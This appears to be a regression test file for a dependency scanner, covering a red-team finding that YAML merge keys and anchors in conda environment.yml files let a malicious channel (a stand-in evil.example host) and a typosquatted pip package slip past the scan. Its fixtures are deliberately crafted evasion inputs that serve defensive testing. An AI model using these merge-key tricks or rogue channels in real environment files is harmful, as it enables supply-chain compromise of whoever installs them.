/**
 * Red team 45c R45c-5 (MED, static MISS): an environment.yml whose channels or `pip:` list
 * come through a YAML merge key (`<<: {...}` or `<<: *anchor`) is clean to warden-scan,
 * while the kernel refuses the same `conda env create -f environment.yml` (install-unreadable:
 * "YAML Warden does not read") and conda, whose ruamel.yaml safe loader (like PyYAML's)
 * applies merge keys, installs what the merged map lists.
 *
 * Root cause: `readEnvironment` (src/deps/manifests.ts:406) loads the file with js-yaml's
 * FAILSAFE_SCHEMA, which has no merge type, so `<<` is an ordinary key and the merged
 * `channels`/`dependencies` are never read; a key the reader does not know is passed over
 * silently. Fix: refuse (install-unreadable) a document with a `<<` key or an alias, as the
 * kernel's reader does (environment_file._yaml_beyond_reader), or load with the merge type
 * and read what it gives; more generally, report an unknown top-level key that may carry
 * installs rather than ignoring it.
 *
 * The controls (pass today): the same content written plainly is flagged.
 *
 * Fixed in fix51static: readEnvironment refuses an anchor, alias or merge key (install-unreadable).
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  installRules,
  scratchDir,
  writeNotebook
} from '../testing/scan-fixture';

function scanEnv(text: string): string[] {
  const dir = scratchDir('rt45c-env-');
  fs.writeFileSync(path.join(dir, 'environment.yml'), text);
  return installRules(['environment.yml'], dir);
}

function scanCell(text: string): string[] {
  const dir = scratchDir('rt45c-nb-');
  fs.writeFileSync(path.join(dir, 'environment.yml'), text);
  writeNotebook(path.join(dir, 'setup.ipynb'), [
    '!conda env create -f environment.yml'
  ]);
  return installRules(['setup.ipynb'], dir);
}

const PLAIN_PIP = 'dependencies:\n  - pip\n  - pip:\n    - torcj\n';
const MERGED_PIP =
  'base: &b\n  dependencies:\n    - pip\n    - pip:\n      - torcj\n<<: *b\n';
const PLAIN_CHANNEL =
  'channels:\n  - https://evil.example/chan\ndependencies:\n  - numpy\n';
const MERGED_CHANNEL =
  '<<: {channels: [https://evil.example/chan]}\ndependencies:\n  - numpy\n';

describe('red team 45c R45c-5: environment.yml merge keys', () => {
  it('control: the plain files are flagged', () => {
    expect(scanEnv(PLAIN_PIP)).toContain('install-imitation-name');
    expect(scanEnv(PLAIN_CHANNEL)).toContain('install-index-not-allowed');
    expect(scanCell(PLAIN_PIP)).toContain('install-imitation-name');
  });

  it('a merged pip list or channel list is flagged or unreadable, not clean', () => {
    for (const text of [MERGED_PIP, MERGED_CHANNEL]) {
      expect(scanEnv(text)).not.toEqual([]);
      expect(scanCell(text)).not.toEqual([]);
    }
  });

  it('an anchor or alias anywhere is unreadable, as the kernel reads it', () => {
    for (const text of [
      'channels: &c\n  - conda-forge\ndependencies:\n  - numpy\n',
      'x: &n numpy\ndependencies:\n  - *n\n',
      '"<<": {channels: [https://evil.example/chan]}\ndependencies:\n  - numpy\n'
    ]) {
      expect(scanEnv(text)).toEqual(['install-unreadable']);
    }
    // a `&` or `*` inside a plain value is no anchor
    expect(
      scanEnv(
        'dependencies:\n  - pip\n  - pip:\n    - requests>=2.0 ; python_version > "3"\n'
      )
    ).toEqual([]);
  });
});
